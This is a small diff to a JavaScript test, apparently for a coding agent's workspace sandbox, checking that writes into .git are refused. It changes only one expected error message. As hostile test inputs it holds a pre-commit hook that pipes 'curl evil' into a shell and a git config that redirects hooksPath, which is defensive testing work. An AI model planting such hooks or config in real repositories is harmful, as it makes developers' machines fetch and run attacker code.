@@ -27,7 +27,7 @@ test('nothing is written into .git, whatever the spelling or a symlink', async (
   await refused(ws.writeFile('.git/hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n'), /inside \.git/);
   await refused(ws.writeFile('./.GIT/hooks/pre-commit', 'x'), /inside \.git/);
   await refused(ws.writeFile('hooks/pre-commit', 'x'), /inside \.git/);
-  await refused(ws.writeFile('.git/config', '[core]\n\thooksPath = evil\n'), /run_command/);
+  await refused(ws.writeFile('.git/config', '[core]\n\thooksPath = evil\n'), /with the run tool/);
   assert.ok(!existsSync(join(root, '.git', 'hooks', 'pre-commit')));
   assert.equal(readFileSync(join(root, '.git', 'config'), 'utf8'), '[core]\n');
 });
